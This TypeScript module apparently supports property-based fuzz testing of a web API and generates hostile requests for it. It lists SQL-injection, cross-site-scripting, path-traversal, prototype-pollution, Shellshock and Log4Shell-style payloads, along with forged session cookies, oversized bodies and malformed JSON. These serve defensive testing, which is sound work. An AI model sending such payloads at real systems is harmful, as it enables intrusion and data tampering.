/**
 * fast-check arbitraries for hostile requests: malformed, oversized, wrong-type and
 * injection-shaped bodies, queries, path parameters and headers, shaped by an operation's
 * schema where it has one (so that they reach each field's validation) and not otherwise.
 * No test-runner imports here.
 */
import fc from "fast-check";
import { sampleOf, type JsonSchema, type Operation } from "./operations.ts";

/** The string with each unpaired surrogate replaced by U+FFFD (what a URL or form can carry). */
const wellFormed = (value: string) => value.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD");

export const SQL_SNIPPETS = [
  "' OR 1=1 --",
  '\'; drop table "user"; --',
  "; drop table member",
  '" OR ""="',
  "1 UNION SELECT token FROM session --",
  "admin'--",
  "%' OR '%'='",
  "\\'; select pg_sleep(5); --",
  "$1",
  "E'\\x00'",
];

export const MARKUP_SNIPPETS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7}",
  "<!--",
  "]]>",
  "&lt;&#x3C;",
];

export const UNICODE_SNIPPETS = [
  "\uD800", // lone high surrogate
  "\uDFFF", // lone low surrogate
  "a\uD83D",
  "\u202E\u202Dtxt.exe", // right-to-left override
  "\u200F\u200E", // RTL and LTR marks
  "\u200B\u200C\u200D\u2060", // zero-width characters
  "\u0000",
  "nul\u0000inside",
  "\uFEFF",
  "\uFFFE\uFFFF",
  "😀",
  "👩‍👩‍👧‍👦",
  "e\u0301\u0301\u0301",
  "İıẞß",
  "\r\n\t\v\f",
  "\u2028\u2029",
  "\u001b[31m",
];

export const ODD_TEXT = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "true",
  "[]",
  "{}",
  "__proto__",
  "constructor",
  "prototype",
  "../../etc/passwd",
  "%00",
  "%",
  "\\",
  "0x41",
  "-1",
  "1e309",
];

/** A string a client should never send, from injection snippets to 100 kB and more. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL_SNIPPETS, ...MARKUP_SNIPPETS, ...UNICODE_SNIPPETS, ...ODD_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary-ascii", maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.constantFrom(...SQL_SNIPPETS, ...MARKUP_SNIPPETS, ...UNICODE_SNIPPETS, "a", "@", "example.com"), { minLength: 2, maxLength: 6 })
      .map((parts) => parts.join("")),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 100_000, max: 200_000 })
      .chain((size) => fc.constantFrom("x", "<script>", "\u0000", "😀", "' OR 1=1 --").map((unit) => unit.repeat(Math.ceil(size / unit.length)))),
  },
);

const hugeNumber = fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER - 2, 5e-324, -0, 0.1, 2 ** 31, -(2 ** 31) - 1, 1e21);

/** Any JSON value, leaning on hostile strings and odd numbers, with nesting. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hugeNumber,
    fc.double(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(
        hostileString.filter((key) => key.length < 200),
        fc.constantFrom("__proto__", "constructor", "role", "admin"),
      ),
      tie("value"),
      { maxKeys: 4 },
    ),
  ),
})).value;

/** JSON texts JSON.stringify cannot make: numbers out of range, deep nesting, duplicate and prototype keys. */
const rawJsonTexts = (fields: string[]) => {
  const field = fields[0] ?? "name";
  return fc.oneof(
    fc.constantFrom(
      `{"${field}": 1e999}`,
      `{"${field}": -1e999}`,
      `{"${field}": 123456789012345678901234567890123456789012345678901234567890}`,
      `{"${field}": 0.0000000000000000000000000000000000000000000000000000000000001}`,
      `{"__proto__": {"admin": true, "role": "admin"}, "${field}": "x"}`,
      `{"constructor": {"prototype": {"admin": true}}}`,
      `{"${field}": "a", "${field}": "b", "${field}": {"$ne": null}}`,
      `{"${field}": {"$gt": ""}}`,
    ),
    fc.integer({ min: 1_000, max: 100_000 }).map((depth) => `${"[".repeat(depth)}${"]".repeat(depth)}`),
    fc.integer({ min: 1_000, max: 50_000 }).map((depth) => `{"${field}": ${'{"a":'.repeat(depth)}1${"}".repeat(depth)}}`),
  );
};

const INVALID_JSON = [
  "",
  " ",
  "{",
  "}",
  '{"a":',
  "[1,2",
  "{'a': 1}",
  '{"a": 1}}',
  '{"a": undefined}',
  '{"a": NaN}',
  "nul",
  "\u0000",
  "\uFEFF{}",
  '{"a": "\u0000"}',
  '{"a":"\\uD800"}',
  '{"a":"\\x41"}',
  "<xml/>",
  "a=1&b=2",
  "--boundary\r\n",
];

const WRONG_CONTENT_TYPES = [
  "text/plain",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/xml",
  "application/json; charset=utf-16",
  "application/json, text/plain",
  "application/vnd.api+json",
  "x/y",
  ";;;",
  "application/json\u00ff",
];

export interface HostileBody {
  kind: string;
  text?: string;
  bytes?: Uint8Array<ArrayBuffer>;
  contentType?: string;
}

/** Values a real client would send, so that one hostile field among them gets past the others' checks. */
const PLAUSIBLE = [
  "person@example.com",
  "Long-enough-Passphrase-42",
  "123456",
  "ABCD2345",
  "Europe/London",
  "GBP",
  "Ada Lovelace",
  "tutor",
  "admin",
  "00000000-0000-0000-0000-000000000000",
];

/**
 * A body shaped like the operation's schema: either each field missing, plausible or hostile,
 * or every field plausible but one hostile; plus, sometimes, fields the schema does not have.
 */
function shapedBody(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
  const fields = Object.keys(schema?.properties ?? {});
  const plausible = (name: string) =>
    fc.constantFrom(sampleOf(schema?.properties?.[name]), ...((schema?.properties?.[name]?.enum as unknown[] | undefined) ?? []), ...PLAUSIBLE);
  const hostile = fc.oneof({ weight: 3, arbitrary: hostileString }, { weight: 1, arbitrary: hostileJson });
  const mixed = fc.record(Object.fromEntries(fields.map((name) => [name, fc.oneof(hostile, plausible(name))])) as Record<string, fc.Arbitrary<unknown>>, {
    requiredKeys: [],
  });
  const oneHostile =
    fields.length === 0
      ? mixed
      : fc
          .constantFrom(...fields)
          .chain((target) =>
            fc.record(Object.fromEntries(fields.map((name) => [name, name === target ? hostile : plausible(name)])) as Record<string, fc.Arbitrary<unknown>>),
          );
  return fc
    .record({
      fields: fc.oneof(mixed, oneHostile),
      extra: fc.dictionary(fc.constantFrom("role", "admin", "devops", "organizationId", "status", "id", "userId", "isAdmin", "x"), hostileJson, { maxKeys: 2 }),
    })
    .map(({ fields: given, extra }) => ({ ...extra, ...given }));
}

/** The bodies of every malformed kind, for an operation that takes a body. */
export function hostileBody(operation: Operation): fc.Arbitrary<HostileBody> {
  const fields = Object.keys(operation.body?.properties ?? {});
  const json =
    (kind: string) =>
    (value: unknown): HostileBody => ({ kind, text: JSON.stringify(value), contentType: "application/json" });
  return fc.oneof(
    { weight: 6, arbitrary: shapedBody(operation.body).map(json("shaped")) },
    { weight: 2, arbitrary: hostileJson.map(json("any JSON")) },
    { weight: 2, arbitrary: rawJsonTexts(fields).map((text): HostileBody => ({ kind: "raw JSON", text, contentType: "application/json" })) },
    {
      weight: 2,
      arbitrary: fc
        .oneof(fc.constantFrom(...INVALID_JSON), fc.string({ unit: "binary", maxLength: 30 }))
        .map((text): HostileBody => ({ kind: "invalid JSON", text, contentType: "application/json" })),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(shapedBody(operation.body), fc.constantFrom(...WRONG_CONTENT_TYPES)).map(([value, contentType]): HostileBody => ({
        kind: "wrong content type",
        text: contentType.includes("form")
          ? new URLSearchParams(
              Object.entries(value as Record<string, unknown>).map(([key, item]) => [
                key,
                wellFormed(typeof item === "string" ? item : (JSON.stringify(item) ?? "")),
              ]),
            ).toString()
          : JSON.stringify(value),
        contentType,
      })),
    },
    {
      weight: 1,
      arbitrary: shapedBody(operation.body).map((value): HostileBody => ({ kind: "no content type", bytes: new TextEncoder().encode(JSON.stringify(value)) })),
    },
    {
      weight: 1,
      arbitrary: fc.constant<HostileBody>({
        kind: "over 1 MB",
        text: JSON.stringify({ [fields[0] ?? "x"]: "x".repeat(1024 * 1024 + 1) }),
        contentType: "application/json",
      }),
    },
  );
}

const encode = (value: string) => encodeURIComponent(wellFormed(value));
const RAW_ESCAPES = ["%", "%zz", "%C0%AF", "%FF%FE", "%00", "%ED%A0%80", "%E2%80%AE", "%2e%2e", "%2F", "a%2Fb", "%25", "%u0041"];

/** A path segment: an encoded hostile string, or raw broken percent-escapes. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileString.filter((value) => value.length < 2_000 && value !== "").map(encode) },
  { weight: 1, arbitrary: fc.constantFrom(...RAW_ESCAPES, "..", ".", "x".repeat(65), "x".repeat(5_000)) },
);

/** A query string of the operation's parameters and others, with hostile, repeated and broken values. */
export function hostileQuery(operation: Operation): fc.Arbitrary<string> {
  const names = [
    ...operation.parameters.filter((parameter) => parameter.in === "query").map((parameter) => parameter.name),
    "__proto__[admin]",
    "a[b][c]",
    "role",
    "token",
  ];
  const pair = fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          fc.constantFrom(...names),
          hostileString.filter((value) => value.length < 20_000),
        )
        .map(([name, value]) => `${encode(name)}=${encode(value)}`),
    },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...names), fc.constantFrom(...RAW_ESCAPES)).map(([name, raw]) => `${encode(name)}=${raw}`) },
    { weight: 1, arbitrary: fc.constantFrom("&", "=", "==", "&&&", "=x", "x", ...RAW_ESCAPES) },
  );
  return fc.array(pair, { maxLength: 4 }).map((pairs) => (pairs.length > 0 ? `?${pairs.join("&")}` : ""));
}

/** A header value: Latin-1 without CR, LF or NUL (what the Fetch API lets a client send). */
const headerValue = fc.oneof(
  fc.constantFrom(...SQL_SNIPPETS, ...MARKUP_SNIPPETS, "", "x".repeat(16_000), "() { :; }; echo vulnerable", "${jndi:ldap://example.com/a}"),
  fc.string({
    unit: fc
      .integer({ min: 0x20, max: 0xff })
      .filter((code) => code !== 0x7f)
      .map((code) => String.fromCharCode(code)),
    maxLength: 60,
  }),
);

/** Extra request headers; `cookie` is added to the client's own cookies rather than replacing them. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
  fc.dictionary(
    fc.constantFrom(
      "accept",
      "accept-language",
      "accept-encoding",
      "user-agent",
      "x-forwarded-for",
      "x-forwarded-host",
      "x-real-ip",
      "forwarded",
      "x-http-method-override",
      "authorization",
      "cookie",
      "referer",
      "if-none-match",
      "range",
      "x-request-id",
      "sec-fetch-site",
      "origin",
    ),
    headerValue,
    { maxKeys: 3 },
  ),
  // A forged or broken session cookie (and two-factor cookie) next to the real one.
  fc
    .tuple(
      fc.constantFrom("glassroom.session_token", "glassroom.two_factor", "glassroom.session_data"),
      fc.oneof(headerValue, fc.constantFrom("%00", "%00.sig", "x.%E0%A4%A", "..", ";")),
    )
    .map(([name, value]) => ({ cookie: `${name}=${value}` })),
);
